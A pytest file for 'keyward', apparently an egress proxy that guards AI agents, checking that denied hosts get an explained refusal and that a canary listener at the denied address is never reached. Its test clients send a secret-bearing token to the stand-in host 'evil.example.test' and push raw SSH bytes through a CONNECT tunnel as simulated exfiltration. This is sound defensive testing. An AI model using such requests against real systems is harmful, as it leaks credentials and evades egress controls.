"""Refusals: a denied destination is explained to the agent and never dialled.

Attacks through `keyward run` (explicit proxy): a denied HTTPS host with a canary listening where
it resolves; raw bytes and a silent client inside the completed tunnel; a client that rejects the
CA; `egress.refusal: reset`; a denied request on a `services:` route. Transparent mode (the pod)
is attacked in tests/test_pod.py::test_denied_host_gets_403.
"""

from __future__ import annotations

import asyncio
import json
import shutil
import sys
import textwrap
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path

import pytest

from tests.support.world import CONFIG, World, make_world

CURL = shutil.which("curl")
NODE = shutil.which("node")


class Canary:
    """A TCP listener standing where the denied host resolves: it must never be dialled."""

    def __init__(self) -> None:
        self.accepted = 0
        self.server: asyncio.Server | None = None

    async def start(self) -> int:
        async def on_conn(_r: asyncio.StreamReader, w: asyncio.StreamWriter) -> None:
            self.accepted += 1
            w.write(b"SSH-2.0-canary\r\n")  # server speaks first, like SSH or SMTP
            w.close()

        self.server = await asyncio.start_server(on_conn, "127.0.0.1", 0)
        return int(self.server.sockets[0].getsockname()[1])

    async def close(self) -> None:
        if self.server is not None:
            self.server.close()
            await self.server.wait_closed()


def canary_config(port: int, refusal_mode: str = "explain") -> str:
    text = CONFIG.replace(
        '"evil.example.test:443": "127.0.0.1:{port}"',
        f'"evil.example.test:443": "127.0.0.1:{port}"',
    )
    return text.replace("  default: deny\n", f"  default: deny\n  refusal: {refusal_mode}\n")


@pytest.fixture
async def world_for(
    tmp_path: Path,
) -> AsyncIterator[Callable[[str], Awaitable[tuple[World, Canary]]]]:
    """A world whose denied host resolves to a canary, with `egress.refusal` set as asked."""
    made: list[tuple[World, Canary]] = []

    async def make(mode: str) -> tuple[World, Canary]:
        canary = Canary()
        port = await canary.start()
        made.append((await make_world(tmp_path, canary_config(port, mode)), canary))
        return made[-1]

    yield make
    for w, c in made:
        await w.upstream.close()
        await c.close()


@pytest.fixture
async def explain(
    world_for: Callable[[str], Awaitable[tuple[World, Canary]]],
) -> tuple[World, Canary]:
    return await world_for("explain")


@pytest.fixture
async def reset(
    world_for: Callable[[str], Awaitable[tuple[World, Canary]]],
) -> tuple[World, Canary]:
    return await world_for("reset")


async def run(world: World, *cmd: str, env: dict[str, str] | None = None) -> tuple[int, str, str]:
    proc = await asyncio.create_subprocess_exec(
        *world.run_argv(*cmd),
        env=env or world.env(),
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
        cwd=world.dir,
    )
    out, err = await asyncio.wait_for(proc.communicate(), 120)
    return proc.returncode or 0, out.decode(), err.decode()


def py(code: str) -> list[str]:
    return [sys.executable, "-c", textwrap.dedent(code)]


NODE_CLIENT = """
const http = require('http'), https = require('https');
const proxy = new URL(process.env.HTTPS_PROXY);
http.request({host: proxy.hostname, port: proxy.port, method: 'CONNECT', path: 'evil.example.test:443'})
  .on('connect', (res, socket) => {
    https.get({host: 'evil.example.test', path: '/node?q=1', socket, agent: false,
               headers: {accept: 'application/json'}}, (r) => {
      let body = ''; r.on('data', (c) => body += c);
      r.on('end', () => { console.log(JSON.stringify({status: r.statusCode, body})); process.exit(0); });
    }).on('error', (e) => { console.log(JSON.stringify({error: String(e)})); process.exit(0); });
  }).end();
"""

CLIENTS = """
import json, subprocess, sys, requests, httpx
out = {}
r = requests.get("https://evil.example.test/requests?token=QSECRET", timeout=30)
out["requests"] = [r.status_code, r.headers.get("X-Keyward-Reason"), r.text]
r = httpx.post("https://evil.example.test/httpx", headers={"Accept": "application/json"}, timeout=30)
out["httpx"] = [r.status_code, r.headers.get("X-Keyward-Reason"), r.json()]
c = subprocess.run(["curl", "-sS", "-w", "\\n%{http_connect} %{http_code}", "https://evil.example.test/curl"], capture_output=True, text=True)
out["curl"] = [c.returncode, c.stdout]
if sys.argv[1]:
    n = subprocess.run([sys.argv[1], "-e", sys.argv[2]], capture_output=True, text=True)
    out["node"] = json.loads(n.stdout or "{}")
print(json.dumps(out))
"""


@pytest.mark.skipif(CURL is None, reason="curl is not installed")
async def test_clients_read_the_refusal_and_nothing_is_dialled(
    explain: tuple[World, Canary],
) -> None:
    world, canary = explain
    code, out, err = await run(world, *py(CLIENTS), NODE or "", NODE_CLIENT)
    assert code == 0, err
    r = json.loads(out)
    status, reason, text = r["requests"]
    assert (status, reason) == (403, "no-rule")
    assert "host evil.example.test, port 443, method GET, path /requests" in text
    assert "    evil.example.test: {}" in text and "QSECRET" not in text
    status, reason, body = r["httpx"]
    assert (status, reason) == (403, "no-rule")
    assert body["refused"]["method"] == "POST" and body["refused"]["path"] == "/httpx"
    assert "evil.example.test: {}" in body["config"]
    curl_code, curl_out = r["curl"]
    assert curl_code == 0
    assert curl_out.endswith("\n200 403")  # the CONNECT completed, the request refused
    assert "path /curl" in curl_out
    if NODE:
        assert r["node"]["status"] == 403, r["node"]
        assert json.loads(r["node"]["body"])["refused"]["path"] == "/node"
    assert canary.accepted == 0
    records = [x for x in world.audit() if x["host"] == "evil.example.test"]
    assert len(records) == 4 if NODE else 3
    assert all(x["refusal"] == "explain" and x["status"] == 403 for x in records)


async def test_raw_bytes_in_an_explained_tunnel_never_dial(explain: tuple[World, Canary]) -> None:
    """The server_connect choke point: non-HTTP inside a completed, denied CONNECT (client talks
    first, or waits for a server-speaks-first banner) is killed; the canary is never dialled."""
    world, canary = explain
    code, out, err = await run(
        world,
        *py(
            """
            import os, socket, urllib.parse
            proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
            def tunnel():
                s = socket.create_connection((proxy.hostname, proxy.port), timeout=10)
                s.sendall(b"CONNECT evil.example.test:443 HTTP/1.1\\r\\nHost: evil.example.test:443\\r\\n\\r\\n")
                head = s.recv(4096).split(b"\\r\\n")[0].decode()
                return s, head
            def rest(s):
                try:
                    return s.recv(4096)
                except (ConnectionResetError, socket.timeout):
                    return b""
            s, head = tunnel()
            s.settimeout(3)
            banner = rest(s)  # a client waiting for the server to speak first
            s.close()
            s, _ = tunnel()
            s.sendall(b"SSH-2.0-OpenSSH_9.0\\r\\n" * 4)
            data = rest(s)
            print(head, repr(banner[:20]), repr(data[:20]))
            """
        ),
    )
    assert code == 0, err
    assert out.startswith("HTTP/1.1 200") and "canary" not in out, out
    assert canary.accepted == 0


@pytest.mark.skipif(CURL is None, reason="curl is not installed")
async def test_client_that_rejects_the_ca_sees_the_reason_and_is_audited(
    explain: tuple[World, Canary],
) -> None:
    world, canary = explain
    env = world.env()
    code, out, err = await run(
        world,
        "sh",
        "-c",
        f'curl -sv --cacert {world.ca.path} https://evil.example.test/x 2>&1; echo "exit=$?"',
        env=env,
    )
    assert code == 0, err
    assert "exit=60" in out  # curl rejected our certificate
    assert "X-Keyward-Reason: no-rule" in out  # the reason, on the CONNECT 200
    rec = [x for x in world.audit() if x["reason"] == "client-tls-rejected"]
    assert len(rec) == 1 and rec[0]["host"] == "evil.example.test"
    assert rec[0]["refusal"] == "explain" and rec[0]["decision"] == "deny"
    # the person running it is told too, with where to look
    assert "0 allowed, 0 denied, 0 with credentials, 1 refused keyward's certificate" in err
    assert canary.accepted == 0


@pytest.mark.skipif(CURL is None, reason="curl is not installed")
async def test_reset_mode_refuses_the_connect(reset: tuple[World, Canary]) -> None:
    world, canary = reset
    _, out, err = await run(
        world,
        "curl",
        "-sS",
        "-o",
        "/dev/null",
        "-w",
        "%{http_connect}",
        "https://evil.example.test/x",
    )
    assert out == "403", err
    rec = [x for x in world.audit() if x["host"] == "evil.example.test"]
    assert len(rec) == 1 and rec[0]["refusal"] == "reset" and rec[0]["method"] == "CONNECT"
    assert canary.accepted == 0


async def test_service_route_refusal_is_readable_and_sends_nothing(
    explain: tuple[World, Canary],
) -> None:
    """The services plane answers a denied request with the same body, upstream untouched."""
    world, _ = explain
    text = world.config.read_text().replace(
        "audit:", "services:\n  api: { listen: 0, upstream: https://api.example.test }\naudit:", 1
    )
    world.config.write_text(text)
    code, out, err = await run(
        world,
        *py(
            """
            import json, os, requests
            url = os.environ["KEYWARD_SERVICE_API_URL"]
            r = requests.delete(url + "/admin/users/1", headers={"Accept": "application/json"})
            t = requests.delete(url + "/admin/users/2")
            print(json.dumps([r.status_code, r.json(), t.text]))
            """
        ),
    )
    assert code == 0, err
    status, body, text = json.loads(out)
    assert status == 403 and body["reason"] == "path-denied: DELETE /admin/**"
    assert body["refused"] == {
        "method": "DELETE", "scheme": "https", "host": "api.example.test", "port": 443,
        "path": "/admin/users/1",
    }  # fmt: skip
    assert "'DELETE /admin/**'" in body["explanation"]
    assert text.startswith(
        "keyward refused this request: DELETE https://api.example.test:443/admin/users/2"
    )
    assert not [r for r in world.upstream.seen.requests if "/admin/" in str(r["path"])]
    records = [r for r in world.audit() if r["plane"] == "service"]
    assert len(records) == 2 and all(r["refusal"] == "explain" for r in records)
